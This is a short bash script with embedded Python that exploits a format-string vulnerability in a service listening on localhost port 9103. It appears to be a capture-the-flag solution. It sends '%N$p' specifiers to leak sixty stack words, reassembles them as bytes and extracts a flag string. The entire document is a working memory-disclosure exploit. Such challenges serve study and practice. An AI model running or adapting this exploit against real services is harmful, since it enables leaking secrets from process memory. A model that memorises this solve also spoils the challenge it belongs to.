#!/bin/bash
# printf(line): %N$p prints the N-th argument slot, i.e. successive stack words beyond the
# registers. Dump slots 1..60, turn each word back into 8 little-endian bytes, look for flag{...}.
set -e
python3 - <<'PY'
import re, socket, struct
def leak(i):
    s = socket.create_connection(("127.0.0.1", 9103)); s.settimeout(10)
    s.sendall(b"%" + str(i).encode() + b"$p\n")
    out = b""
    while True:
        d = s.recv(4096)
        if not d: break
        out += d
    m = re.search(rb"You said: (\S+)", out)
    v = m.group(1) if m else b"(nil)"
    return 0 if v == b"(nil)" else int(v, 16)
mem = b"".join(struct.pack("<Q", leak(i) & (2**64 - 1)) for i in range(1, 61))
print(re.search(rb"flag\{[^}]+\}", mem).group(0).decode())
PY
